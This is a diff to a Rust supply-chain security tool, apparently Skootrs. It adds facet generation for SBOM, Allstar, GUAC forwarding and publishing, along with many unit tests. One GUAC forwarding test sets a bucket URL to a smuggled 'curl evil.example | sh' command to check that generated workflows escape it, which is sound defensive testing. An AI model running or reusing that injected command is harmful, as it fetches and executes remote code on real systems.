+            },
+            FacetTypeLabels {
+                supported_facet_type: License,
+                labels: vec![],
+            },
             FacetTypeLabels {
                 supported_facet_type: Gitignore,
                 labels: vec![],
@@ -903,8 +2236,15 @@ impl FacetSetParamsGenerator {
                 supported_facet_type: SLSABuild,
                 labels: vec![Label::SLSABuildLevel3, Label::S2C2FAUD1],
             },
-            // SBOMGenerator, // Handled by the SLSABuild facet
-            // StaticCodeAnalysis,
+            // PublishPackages, // Enabled by providing its config
+            FacetTypeLabels {
+                supported_facet_type: SBOMGenerator,
+                labels: vec![Label::S2C2FINV1, Label::S2C2FAUD4],
+            },
+            FacetTypeLabels {
+                supported_facet_type: StaticCodeAnalysis,
+                labels: vec![],
+            },
             FacetTypeLabels {
                 supported_facet_type: DependencyUpdateTool,
                 labels: vec![Label::S2C2FUPD2],
@@ -916,23 +2256,40 @@ impl FacetSetParamsGenerator {
                 supported_facet_type: Scorecard,
                 labels: vec![],
             },
-            // PublishPackages,
-            // PinnedDependencies,
             FacetTypeLabels {
                 supported_facet_type: SAST,
                 labels: vec![Label::S2C2FSCA1],
             },
-            // VulnerabilityScanner,
-            // GUACForwardingConfig,
+            FacetTypeLabels {
+                supported_facet_type: VulnerabilityScanner,
+                labels: vec![Label::S2C2FSCA1],
+            },
+            FacetTypeLabels {
+                supported_facet_type: PinnedDependencies,
+                labels: vec![],
+            },
+            // GUACForwardingConfig, // Enabled by providing its config
+            FacetTypeLabels {
+                supported_facet_type: Allstar,
+                labels: vec![],
+            },
             // These are at the end to allow Skootrs to push initial commits without needing
             // code review or branches.
-            // CodeReview, // TODO: Implement this
+            // CodeReview, // Enabled by providing its config, along with CodeOwners
             //BranchProtection, //TODO: Implement this
             FacetTypeLabels {
                 supported_facet_type: DefaultSourceCode,
                 labels: vec![],
             },
         ];
+        // Facets like Allstar generate content that has to line up with the rest of the project's facets.
+        let enabled_facets = supported_facets
+            .iter()
+            .map(|facet_type_labels| facet_type_labels.supported_facet_type.clone())
+            .chain(DEFAULT_API_BUNDLE_FACETS)
+            .chain(facet_configs.iter().filter_map(FacetConfig::facet_type))
+            .chain(facet_configs.iter().filter_map(FacetConfig::api_facet_type))
+            .collect::<Vec<_>>();
         let facets_params = supported_facets
             .iter()
             .map(|facet_type_labels| {
@@ -940,8 +2297,30 @@ impl FacetSetParamsGenerator {
                     common: common_params.clone(),
                     facet_type: facet_type_labels.supported_facet_type.clone(),
                     labels: facet_type_labels.labels.clone(),
+                    write_policy: WritePolicy::default(),
+                    recorded_source_files: vec![],
+                    enabled_facets: enabled_facets.clone(),
+                    config: None,
                 })
             })
+            .chain(facet_configs.iter().filter_map(|config| {
+                let facet_type = config.facet_type()?;
+                let labels = match facet_type {
+                    PublishPackages => vec![Label::SLSABuildLevel3],
+                    _ => vec![],
+                };
+                Some(FacetCreateParams::SourceBundle(
+                    SourceBundleFacetCreateParams {
+                        common: common_params.clone(),
+                        facet_type,
+                        labels,
+                        write_policy: WritePolicy::default(),
+                        recorded_source_files: vec![],
+                        enabled_facets: enabled_facets.clone(),
+                        config: Some(config.clone()),
+                    },
+                ))
+            }))
             .collect::<Vec<FacetCreateParams>>();
 
         Ok(FacetSetCreateParams { facets_params })
@@ -952,3 +2331,1013 @@ struct FacetTypeLabels {
     supported_facet_type: SupportedFacetType,
     labels: Vec<Label>,
 }
+
+#[cfg(test)]
+mod tests {
+    use skootrs_model::skootrs::{
+        facet::GUACForwardingConfig, GithubUser, InitializedGithubRepo, InitializedGo,
+        InitializedMaven, InitializedSource,
+    };
+
+    use super::*;
+
+    fn maven_params(facet_type: SupportedFacetType) -> SourceBundleFacetCreateParams {
+        SourceBundleFacetCreateParams {
+            common: CommonFacetCreateParams {
+                project_name: "test".to_string(),
+                source: InitializedSource {
+                    path: "/tmp/test".to_string(),
+                },
+                repo: InitializedRepo::Github(InitializedGithubRepo {
+                    name: "test".to_string(),
+                    organization: GithubUser::User("testuser".to_string()),
+                    host: "github.com".to_string(),
+                    default_branch: "main".to_string(),
+                    settings: None,
+                }),
+                ecosystem: InitializedEcosystem::Maven(InitializedMaven {
+                    group_id: "com.example".to_string(),
+                    artifact_id: "test".to_string(),
+                }),
+            },
+            facet_type,
+            labels: vec![],
+            write_policy: WritePolicy::default(),
+            recorded_source_files: vec![],
+            enabled_facets: vec![],
+            config: None,
+        }
+    }
+
+    fn go_params(facet_type: SupportedFacetType) -> SourceBundleFacetCreateParams {
+        let mut params = maven_params(facet_type);
+        params.common.ecosystem = InitializedEcosystem::Go(InitializedGo {
+            name: "test".to_string(),
+            host: "github.com/testuser".to_string(),
+        });
+        params
+    }
+
+    #[test]
+    fn test_generate_sbom_generator_content() {
+        let facet_service = LocalFacetService::default();
+        let params = maven_params(SupportedFacetType::SBOMGenerator);
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        assert_eq!(content.facet_type, SupportedFacetType::SBOMGenerator);
+        let workflow = &content.source_files_content[0];
+        assert_eq!(workflow.path, ".github/workflows/");
+        assert!(workflow.content.contains("test.spdx.json"));
+        assert!(workflow.content.contains("test.cdx.json"));
+        assert!(workflow
+            .content
+            .contains("${{ github.event.release.tag_name }}"));
+    }
+
+    #[test]
+    fn test_generate_vulnerability_scanner_content() {
+        let facet_service = LocalFacetService::default();
+        let params = maven_params(SupportedFacetType::VulnerabilityScanner);
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        let workflow = &content.source_files_content[0];
+        assert_eq!(workflow.name, "osv-scanner.yml");
+        assert!(workflow.content.contains("osv-scanner --format sarif"));
+        assert!(workflow.content.contains("pull_request:"));
+        assert!(workflow.content.contains("schedule:"));
+    }
+
+    #[test]
+    fn test_generate_allstar_content() {
+        let facet_service = LocalFacetService::default();
+        let mut params = maven_params(SupportedFacetType::Allstar);
+        params.enabled_facets = vec![
+            SupportedFacetType::BranchProtection,
+            SupportedFacetType::SecurityPolicy,
+        ];
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        let names = content
+            .source_files_content
+            .iter()
+            .map(|file| format!("{}{}", file.path, file.name))
+            .collect::<Vec<_>>();
+        assert_eq!(
+            names,
+            vec![
+                ".allstar/branch_protection.yaml",
+                ".allstar/binary_artifacts.yaml",
+                ".allstar/outside.yaml",
+                ".allstar/security.yaml",
+            ]
+        );
+        let branch_protection = &content.source_files_content[0].content;
+        assert!(branch_protection.contains("optIn: true"));
+        assert!(branch_protection.contains("action: issue"));
+        // Approvals aren't required since the CodeReview facet isn't enabled.
+        assert!(branch_protection.contains("requireApproval: false"));
+    }
+
+    #[test]
+    fn test_workflows_trigger_on_default_branch() {
+        let facet_service = LocalFacetService::default();
+        for facet_type in [SupportedFacetType::SAST, SupportedFacetType::Scorecard] {
+            let mut params = maven_params(facet_type);
+            let InitializedRepo::Github(repo) = &mut params.common.repo;
+            repo.default_branch = "trunk".to_string();
+
+            let content = facet_service
+                .generate_source_bundle_content(&params)
+                .unwrap();
+
+            let workflow = &content.source_files_content[0].content;
+            assert!(workflow.contains(r#"branches: [ "trunk" ]"#));
+            assert!(!workflow.contains(r#"branches: [ "main" ]"#));
+        }
+    }
+
+    #[test]
+    fn test_generate_allstar_content_org_mode() {
+        let facet_service = LocalFacetService::default();
+        let mut params = maven_params(SupportedFacetType::Allstar);
+        params.common.repo = InitializedRepo::Github(InitializedGithubRepo {
+            name: ".allstar".to_string(),
+            organization: GithubUser::Organization("testorg".to_string()),
+            host: "github.com".to_string(),
+            default_branch: "main".to_string(),
+            settings: None,
+        });
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        assert_eq!(content.source_files_content.len(), 5);
+        assert!(content
+            .source_files_content
+            .iter()
+            .all(|file| file.path == "./" && file.content.contains("optOutStrategy: true")));
+        let security = &content.source_files_content[4];
+        assert_eq!(security.name, "security.yaml");
+        assert!(security.content.contains("action: log"));
+    }
+
+    #[test]
+    fn test_generate_guac_forwarding_content() {
+        let facet_service = LocalFacetService::default();
+        let mut params = maven_params(SupportedFacetType::GUACForwardingConfig);
+        assert!(facet_service
+            .generate_source_bundle_content(&params)
+            .is_err());
+
+        // A local stand-in for the collector, e.g. GUAC's docker compose setup.
+        params.config = Some(FacetConfig::GUACForwarding(GUACForwardingConfig {
+            endpoint: GUACEndpoint::CollectSub {
+                csub_address: "localhost:2782".to_string(),
+                graphql_address: "http://localhost:8080/query".to_string(),
+            },
+        }));
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains("CSUB_ADDRESS: \"localhost:2782\""));
+        assert!(workflow.contains("GRAPHQL_ADDRESS: \"http://localhost:8080/query\""));
+        assert!(!workflow.contains("aws s3 cp"));
+        assert!(workflow.contains("workflows: [ \"SBOM\" ]"));
+        assert!(workflow.contains("github.event.workflow_run.head_branch"));
+        assert!(!workflow.contains("gh release view"));
+
+        // A local S3 compatible stand-in for the bucket, e.g. MinIO.
+        params.config = Some(FacetConfig::GUACForwarding(GUACForwardingConfig {
+            endpoint: GUACEndpoint::Blob {
+                bucket_url: "s3://guac-documents".to_string(),
+                endpoint_url: Some("http://localhost:9000".to_string()),
+            },
+        }));
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains(
+            "aws s3 cp --recursive guac-documents \"${BUCKET_URL}/${GITHUB_REPOSITORY}/\" --endpoint-url \"${ENDPOINT_URL}\""
+        ));
+        assert!(workflow.contains("BUCKET_URL: \"s3://guac-documents\""));
+        assert!(workflow.contains("ENDPOINT_URL: \"http://localhost:9000\""));
+        assert!(workflow.contains("${{ secrets.GUAC_BUCKET_ACCESS_KEY_ID }}"));
+        assert!(!workflow.contains("guacone"));
+
+        // Values can't break out of their strings, in the workflow or in the shell.
+        params.config = Some(FacetConfig::GUACForwarding(GUACForwardingConfig {
+            endpoint: GUACEndpoint::Blob {
+                bucket_url: "s3://bucket\"; curl evil.example | sh; \"".to_string(),
+                endpoint_url: None,
+            },
+        }));
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains(r#"BUCKET_URL: "s3://bucket\"; curl evil.example | sh; \"""#));
+        assert!(!workflow.contains("--endpoint-url"));
+        assert!(!workflow.contains("ENDPOINT_URL"));
+        let parsed: serde_yaml::Value = serde_yaml::from_str(workflow).unwrap();
+        assert_eq!(
+            parsed["jobs"]["forward"]["steps"][1]["env"]["BUCKET_URL"],
+            "s3://bucket\"; curl evil.example | sh; \""
+        );
+    }
+
+    #[test]
+    fn test_generate_static_code_analysis_content() {
+        let facet_service = LocalFacetService::default();
+        let params = maven_params(SupportedFacetType::StaticCodeAnalysis);
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        let names = content
+            .source_files_content
+            .iter()
+            .map(|file| file.name.as_str())
+            .collect::<Vec<_>>();
+        assert_eq!(names, vec!["lint.yml", "spotbugs-exclude.xml"]);
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains("-Dspotbugs.excludeFilterFile=spotbugs-exclude.xml"));
+        assert!(workflow.contains("sarif_file: target/spotbugsSarif.json"));
+    }
+
+    #[test]
+    fn test_generate_publish_packages_content() {
+        let facet_service = LocalFacetService::default();
+        let params = maven_params(SupportedFacetType::PublishPackages);
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains("mvn --batch-mode deploy"));
+        assert!(workflow.contains("generator_generic_slsa3.yml@v1.10.0"));
+        assert_eq!(content.source_files_content[1].name, "maven-settings.xml");
+    }
+
+    #[test]
+    fn test_generate_go_publish_packages_content() {
+        let facet_service = LocalFacetService::default();
+        let mut params = go_params(SupportedFacetType::PublishPackages);
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains("go list -m \"github.com/testuser/test@${TAG_NAME}\""));
+        assert!(workflow.contains("KO_DOCKER_REPO: ghcr.io/testuser/test"));
+        assert!(workflow.contains("generator_container_slsa3.yml@v1.10.0"));
+        serde_yaml::from_str::<serde_yaml::Value>(workflow).unwrap();
+
+        // The SLSABuild facet's release workflow pushes the image when it's enabled.
+        params.enabled_facets = vec![SupportedFacetType::SLSABuild];
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains("go list -m"));
+        assert!(!workflow.contains("ko build"));
+    }
+
+    #[test]
+    fn test_publish_packages_is_opt_in() {
+        let common = maven_params(SupportedFacetType::PublishPackages).common;
+        let generator = FacetSetParamsGenerator {};
+        let is_publish_packages = |params: &&FacetCreateParams| {
+            matches!(params, FacetCreateParams::SourceBundle(params)
+                if params.facet_type == SupportedFacetType::PublishPackages)
+        };
+
+        let default_params = generator
+            .generate_default_source_bundle_facet_params(&common)
+            .unwrap();
+        assert!(!default_params
+            .facets_params
+            .iter()
+            .any(|params| is_publish_packages(&params)));
+
+        let params = generator
+            .generate_source_bundle_facet_params(&common, &[FacetConfig::PublishPackages])
+            .unwrap();
+        let Some(FacetCreateParams::SourceBundle(publish_params)) =
+            params.facets_params.iter().find(is_publish_packages)
+        else {
+            panic!("The PublishPackages facet should be enabled by its config");
+        };
+        assert!(matches!(
+            publish_params.labels.as_slice(),
+            [Label::SLSABuildLevel3]
+        ));
+        assert_eq!(publish_params.config, Some(FacetConfig::PublishPackages));
+        assert!(publish_params
+            .enabled_facets
+            .contains(&SupportedFacetType::PublishPackages));
+    }
+
+    #[test]
+    fn test_generate_maven_default_facets_content() {
+        let facet_service = LocalFacetService::default();
+        let dir = tempdir::TempDir::new("maven_facets").unwrap();
+        let mut common = maven_params(SupportedFacetType::Readme).common;
+        common.source = InitializedSource {
+            path: dir.path().display().to_string(),
+        };
+        let facet_set_params = FacetSetParamsGenerator {}
+            .generate_default_source_bundle_facet_params(&common)
+            .unwrap();
+
+        for facet_params in facet_set_params.facets_params {
+            let FacetCreateParams::SourceBundle(params) = facet_params else {
+                continue;
+            };
+            let content = facet_service
+                .generate_source_bundle_content(&params)
+                .unwrap();
+            assert_eq!(content.facet_type, params.facet_type);
+        }
+    }
+
+    #[test]
+    fn test_generate_maven_slsa_build_content() {
+        let facet_service = LocalFacetService::default();
+        let params = maven_params(SupportedFacetType::SLSABuild);
+
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+
+        let workflow = &content.source_files_content[0].content;
+        assert!(workflow.contains("mvn --batch-mode package"));
+        assert!(workflow.contains("generator_generic_slsa3.yml@v1.10.0"));
+        assert!(workflow.contains("${{ needs.build.outputs.hashes }}"));
+    }
+
+    #[test]
+    fn test_maven_handler_rejects_unsupported_facet() {
+        let params = maven_params(SupportedFacetType::Readme);
+
+        let Err(err) = MavenGithubSourceBundleContentHandler {}.generate_content(&params) else {
+            panic!("The Readme facet should be rejected");
+        };
+
+        assert_eq!(
+            err.to_string(),
+            "The Readme facet isn't supported for Maven projects"
+        );
+    }
+
+    #[test]
+    fn test_go_handler_rejects_unsupported_facet() {
+        let params = go_params(SupportedFacetType::Readme);
+
+        let Err(err) = GoGithubSourceBundleContentHandler {}.generate_content(&params) else {
+            panic!("The Readme facet should be rejected");
+        };
+
+        assert_eq!(
+            err.to_string(),
+            "The Readme facet isn't supported for Go projects"
+        );
+    }
+
+    #[test]
+    fn test_readme_documents_publishing() {
+        let facet_service = LocalFacetService::default();
+        let mut params = maven_params(SupportedFacetType::Readme);
+        let readme = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        assert_eq!(
+            readme.source_files_content[0].content,
+            "# test\nThis is the README for the test project."
+        );
+
+        params.enabled_facets = vec![SupportedFacetType::PublishPackages];
+        let readme = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let content = &readme.source_files_content[0].content;
+        assert!(content.contains("## Publishing"));
+        assert!(content.contains("`MAVEN_GPG_PRIVATE_KEY`"));
+
+        let mut params = go_params(SupportedFacetType::Readme);
+        params.enabled_facets = vec![SupportedFacetType::PublishPackages];
+        let readme = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        let content = &readme.source_files_content[0].content;
+        assert!(content.contains("built with [ko](https://ko.build)"));
+    }
+
+    #[test]
+    fn test_code_review_facets_stay_coherent() {
+        let config = CodeReviewConfig {
+            required_approving_review_count: 2,
+            dismiss_stale_reviews: true,
+            code_owners: vec!["@testorg/maintainers".to_string(), "@testuser".to_string()],
+        };
+        let facet_configs = vec![FacetConfig::CodeReview(config.clone())];
+        let common = maven_params(SupportedFacetType::CodeOwners).common;
+        let generator = FacetSetParamsGenerator {};
+
+        let source_params = generator
+            .generate_source_bundle_facet_params(&common, &facet_configs)
+            .unwrap();
+        let api_params = generator
+            .generate_api_bundle_facet_params(&common, &facet_configs)
+            .unwrap();
+
+        let Some(FacetCreateParams::SourceBundle(code_owners_params)) = source_params
+            .facets_params
+            .iter()
+            .find(|params| matches!(params, FacetCreateParams::SourceBundle(p) if p.facet_type == SupportedFacetType::CodeOwners))
+        else {
+            panic!("The CodeOwners facet should be enabled");
+        };
+        assert!(code_owners_params
+            .enabled_facets
+            .contains(&SupportedFacetType::CodeReview));
+        let code_owners = LocalFacetService::default()
+            .generate_source_bundle_content(code_owners_params)
+            .unwrap();
+        assert_eq!(
+            code_owners.source_files_content[0].content,
+            "# The owners of all the code in the project, who are required to review pull requests.\n* @testorg/maintainers @testuser"
+        );
+
+        // The reviews are applied along with the branch protection so the two don't race.
+        let Some(FacetCreateParams::APIBundle(branch_protection_params)) =
+            api_params.facets_params.first()
+        else {
+            panic!("The BranchProtection facet should be enabled");
+        };
+        assert_eq!(
+            branch_protection_params.config,
+            Some(FacetConfig::BranchProtection(BranchProtectionParams {
+                required_reviews: Some(config.clone()),
+                ..BranchProtectionParams::default()
+            }))
+        );
+        assert!(!api_params.facets_params.iter().any(|params| matches!(
+            params,
+            FacetCreateParams::APIBundle(p) if p.facet_type == SupportedFacetType::CodeReview
+        )));
+        assert_eq!(
+            serde_json::to_value(RequiredReviews::from(&config)).unwrap(),
+            serde_json::json!({
+                "dismiss_stale_reviews": true,
+                "require_code_owner_reviews": true,
+                "required_approving_review_count": 2,
+            })
+        );
+    }
+
+    const PULL_REQUEST_WORKFLOW: &str = r#"
+name: Checks
+on:
+  pull_request:
+    branches: [ "main" ]
+jobs:
+  lint:
+    name: Lint
+    runs-on: ubuntu-latest
+  test:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        os: [ ubuntu-latest, macos-latest ]
+        go: [ "1.21" ]
+  analyze:
+    name: Analyze
+    strategy:
+      matrix:
+        language: [ go ]
+        include:
+          - language: java
+  reusable:
+    uses: ./.github/workflows/reusable.yml
+"#;
+
+    const RELEASE_WORKFLOW: &str = r#"
+name: Release
+on:
+  push:
+    tags: [ "v*" ]
+jobs:
+  release:
+    name: Release
+    runs-on: ubuntu-latest
+"#;
+
+    fn workflow_source() -> (tempdir::TempDir, InitializedSource) {
+        let dir = tempdir::TempDir::new("branch_protection").unwrap();
+        let workflows = dir.path().join(".github/workflows");
+        std::fs::create_dir_all(&workflows).unwrap();
+        std::fs::write(workflows.join("checks.yml"), PULL_REQUEST_WORKFLOW).unwrap();
+        std::fs::write(workflows.join("release.yml"), RELEASE_WORKFLOW).unwrap();
+        let source = InitializedSource {
+            path: dir.path().to_string_lossy().to_string(),
+        };
+        (dir, source)
+    }
+
+    fn test_repo() -> InitializedGithubRepo {
+        InitializedGithubRepo {
+            name: "test".to_string(),
+            organization: GithubUser::User("testuser".to_string()),
+            host: "github.com".to_string(),
+            default_branch: "main".to_string(),
+            settings: None,
+        }
+    }
+
+    async fn mock_client(server: &wiremock::MockServer) -> std::sync::Arc<octocrab::Octocrab> {
+        std::sync::Arc::new(
+            octocrab::Octocrab::builder()
+                .base_uri(server.uri())
+                .unwrap()
+                .build()
+                .unwrap(),
+        )
+    }
+
+    #[test]
+    fn test_workflow_status_checks() {
+        let (_dir, source) = workflow_source();
+
+        let status_checks = workflow_status_checks(&source).unwrap();
+
+        // Only the pull request workflow counts, and the matrix with an include and the reusable workflow
+        // can't be known ahead of time.
+        assert_eq!(
+            status_checks,
+            vec![
+                "Lint".to_string(),
+                "test (macos-latest, 1.21)".to_string(),
+                "test (ubuntu-latest, 1.21)".to_string(),
+            ]
+        );
+    }
+
+    #[tokio::test]
+    async fn test_generate_classic_branch_protection() {
+        use wiremock::matchers::{body_json, method, path};
+        let server = wiremock::MockServer::start().await;
+        wiremock::Mock::given(method("PUT"))
+            .and(path("/repos/testuser/test/branches/main/protection"))
+            .and(body_json(serde_json::json!({
+                "required_status_checks": {
+                    "strict": true,
+                    "contexts": [
+                        "Lint",
+                        "extra",
+                        "test (macos-latest, 1.21)",
+                        "test (ubuntu-latest, 1.21)",
+                    ],
+                },
+                "enforce_admins": true,
+                "required_pull_request_reviews": null,
+                "restrictions": null,
+                "required_linear_history": true,
+                "allow_force_pushes": false,
+                "allow_deletions": false,
+            })))
+            .respond_with(wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!({})))
+            .expect(1)
+            .mount(&server)
+            .await;
+        wiremock::Mock::given(method("POST"))
+            .and(path(
+                "/repos/testuser/test/branches/main/protection/required_signatures",
+            ))
+            .respond_with(
+                wiremock::ResponseTemplate::new(200)
+                    .set_body_json(serde_json::json!({ "enabled": true })),
+            )
+            .expect(1)
+            .mount(&server)
+            .await;
+        let (_dir, source) = workflow_source();
+        let protection = BranchProtectionParams {
+            required_status_checks: vec!["extra".to_string()],
+            require_signed_commits: true,
+            ..BranchProtectionParams::default()
+        };
+
+        let facet = GithubAPIBundleHandler {
+            client: mock_client(&server).await,
+        }
+        .generate_branch_protection(&test_repo(), &source, &protection)
+        .await
+        .unwrap();
+
+        assert_eq!(facet.facet_type, SupportedFacetType::BranchProtection);
+        assert_eq!(facet.apis.len(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_api_facets_target_default_branch() {
+        use wiremock::matchers::{method, path};
+        let server = wiremock::MockServer::start().await;
+        wiremock::Mock::given(method("PUT"))
+            .and(path("/repos/testuser/test/branches/trunk/protection"))
+            .respond_with(wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!({})))
+            .expect(1)
+            .mount(&server)
+            .await;
+        wiremock::Mock::given(method("PATCH"))
+            .and(path(
+                "/repos/testuser/test/branches/trunk/protection/required_pull_request_reviews",
+            ))
+            .respond_with(wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!({})))
+            .expect(1)
+            .mount(&server)
+            .await;
+        let (_dir, source) = workflow_source();
+        let repo = InitializedGithubRepo {
+            default_branch: "trunk".to_string(),
+            ..test_repo()
+        };
+        let handler = GithubAPIBundleHandler {
+            client: mock_client(&server).await,
+        };
+
+        handler
+            .generate_branch_protection(&repo, &source, &BranchProtectionParams::default())
+            .await
+            .unwrap();
+        handler
+            .generate_code_review(
+                &repo,
+                &CodeReviewConfig {
+                    required_approving_review_count: 1,
+                    dismiss_stale_reviews: false,
+                    code_owners: vec![],
+                },
+            )
+            .await
+            .unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_revert_api_facets() {
+        use wiremock::matchers::{method, path};
+        let server = wiremock::MockServer::start().await;
+        wiremock::Mock::given(method("DELETE"))
+            .and(path("/repos/testuser/test/branches/main/protection"))
+            .respond_with(wiremock::ResponseTemplate::new(204))
+            .expect(1)
+            .mount(&server)
+            .await;
+        // The reviews are already gone along with the branch protection.
+        wiremock::Mock::given(method("DELETE"))
+            .and(path(
+                "/repos/testuser/test/branches/main/protection/required_pull_request_reviews",
+            ))
+            .respond_with(
+                wiremock::ResponseTemplate::new(404)
+                    .set_body_json(serde_json::json!({ "message": "Branch not protected" })),
+            )
+            .expect(1)
+            .mount(&server)
+            .await;
+        wiremock::Mock::given(method("DELETE"))
+            .and(path("/repos/testuser/test/private-vulnerability-reporting"))
+            .respond_with(wiremock::ResponseTemplate::new(204))
+            .expect(1)
+            .mount(&server)
+            .await;
+        wiremock::Mock::given(method("GET"))
+            .and(path("/repos/testuser/test/rulesets"))
+            .respond_with(
+                wiremock::ResponseTemplate::new(200).set_body_json(serde_json::json!([
+                    { "id": 42, "name": BRANCH_PROTECTION_RULESET_NAME },
+                ])),
+            )
+            .mount(&server)
+            .await;
+        wiremock::Mock::given(method("DELETE"))
+            .and(path("/repos/testuser/test/rulesets/42"))
+            .respond_with(wiremock::ResponseTemplate::new(204))
+            .expect(1)
+            .mount(&server)
+            .await;
+        let handler = GithubAPIBundleHandler {
+            client: mock_client(&server).await,
+        };
+        let facet = |facet_type: SupportedFacetType, config: Option<FacetConfig>| APIBundleFacet {
+            apis: vec![],
+            facet_type,
+            labels: vec![],
+            config,
+        };
+
+        for api_bundle_facet in [
+            facet(SupportedFacetType::BranchProtection, None),
+            facet(SupportedFacetType::CodeReview, None),
+            facet(SupportedFacetType::VulnerabilityReporting, None),
+            facet(
+                SupportedFacetType::BranchProtection,
+                Some(FacetConfig::BranchProtection(BranchProtectionParams {
+                    mode: BranchProtectionMode::Ruleset,
+                    ..BranchProtectionParams::default()
+                })),
+            ),
+        ] {
+            handler
+                .revert(&test_repo(), &api_bundle_facet)
+                .await
+                .unwrap();
+        }
+        assert!(handler
+            .revert(&test_repo(), &facet(SupportedFacetType::Readme, None))
+            .await
+            .is_err());
+    }
+
+    #[tokio::test]
+    async fn test_remove_source_bundle_facet() {
+        let temp_dir = tempdir::TempDir::new("test").unwrap();
+        let source = InitializedSource {
+            path: temp_dir.path().to_str().unwrap().to_string(),
+        };
+        let source_service = LocalSourceService {};
+        let mut source_files = vec![];
+        for name in ["fuzz.yml", "build.sh"] {
+            source_service
+                .write_file(source.clone(), ".clusterfuzzlite", name.to_string(), name)
+                .unwrap();
+            source_files.push(SourceFile {
+                name: name.to_string(),
+                path: ".clusterfuzzlite".to_string(),
+                hash: source_service
+                    .hash_file(&source, ".clusterfuzzlite", name.to_string())
+                    .unwrap(),
+            });
+        }
+        std::fs::write(temp_dir.path().join(".clusterfuzzlite/build.sh"), "changed").unwrap();
+        let params = |force: bool| FacetRemoveParams {
+            common: CommonFacetCreateParams {
+                source: source.clone(),
+                ..maven_params(SupportedFacetType::Fuzzing).common
+            },
+            facet: InitializedFacet::SourceBundle(SourceBundleFacet {
+                source_files: Some(source_files.clone()),
+                facet_type: SupportedFacetType::Fuzzing,
+                source_files_content: None,
+                labels: vec![],
+                conflicts: vec![],
+                config: None,
+            }),
+            force,
+        };
+        let facet_service = LocalFacetService::default();
+
+        let error = facet_service.remove(params(false)).await.unwrap_err();
+        assert!(error.to_string().contains(".clusterfuzzlite/build.sh"));
+        // Nothing is removed when any of the files were modified.
+        assert!(temp_dir.path().join(".clusterfuzzlite/fuzz.yml").exists());
+
+        facet_service.remove(params(true)).await.unwrap();
+        assert!(!temp_dir.path().join(".clusterfuzzlite/fuzz.yml").exists());
+        assert!(!temp_dir.path().join(".clusterfuzzlite/build.sh").exists());
+    }
+
+    #[test]
+    fn test_generate_pinned_dependencies_content() {
+        let temp_dir = tempdir::TempDir::new("test").unwrap();
+        let workflows = temp_dir.path().join(".github/workflows");
+        std::fs::create_dir_all(&workflows).unwrap();
+        std::fs::write(
+            workflows.join("ci.yml"),
+            "steps:\n  - uses: actions/checkout@v4\n",
+        )
+        .unwrap();
+        let mut params = maven_params(SupportedFacetType::PinnedDependencies);
+        params.common.source = InitializedSource {
+            path: temp_dir.path().to_str().unwrap().to_string(),
+        };
+        let facet_service = LocalFacetService::default();
+
+        // Workflows that aren't generated by Skootrs are never part of the facet.
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        assert_eq!(content.source_files_content.len(), 1);
+        assert_eq!(content.source_files_content[0].name, "dependabot.yml");
+        assert_eq!(
+            facet_service
+                .generate_source_bundle_content(&params)
+                .unwrap()
+                .source_files_content[0]
+                .content,
+            content.source_files_content[0].content
+        );
+
+        params.enabled_facets = vec![SupportedFacetType::DependencyUpdateTool];
+        let content = facet_service
+            .generate_source_bundle_content(&params)
+            .unwrap();
+        assert!(content.source_files_content.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_remove_pinned_dependencies_keeps_workflows() {
+        let temp_dir = tempdir::TempDir::new("test").unwrap();
+        let workflows = temp_dir.path().join(".github/workflows");
+        std::fs::create_dir_all(&workflows).unwrap();
+        let workflow = "steps:\n  - uses: actions/checkout@v4\n";
+        std::fs::write(workflows.join("ci.yml"), workflow).unwrap();
+        let mut params = maven_params(SupportedFacetType::PinnedDependencies);
+        params.common.source = InitializedSource {
+            path: temp_dir.path().to_str().unwrap().to_string(),
+        };
+        let facet_service = LocalFacetService::default();
+
+        let facet = SourceBundleFacetService::initialize(&facet_service, params.clone()).unwrap();
+        facet_service
+            .remove(FacetRemoveParams {
+                common: params.common,
+                facet: InitializedFacet::SourceBundle(facet),
+                force: false,
+            })
+            .await
+            .unwrap();
+
+        assert!(!temp_dir.path().join(".github/dependabot.yml").exists());
+        assert_eq!(
+            std::fs::read_to_string(workflows.join("ci.yml")).unwrap(),
+            workflow
+        );
+    }
+
+    #[tokio::test]
+    async fn test_classic_branch_protection_rejects_patterns() {
+        let server = wiremock::MockServer::start().await;
+        let (_dir, source) = workflow_source();
+        let protection = BranchProtectionParams {
+            branch: Some("release/*".to_string()),
+            ..BranchProtectionParams::default()
+        };
+
+        let result = GithubAPIBundleHandler {
+            client: mock_client(&server).await,
+        }
+        .generate_branch_protection(&test_repo(), &source, &protection)
+        .await;
+
+        assert!(result.is_err());
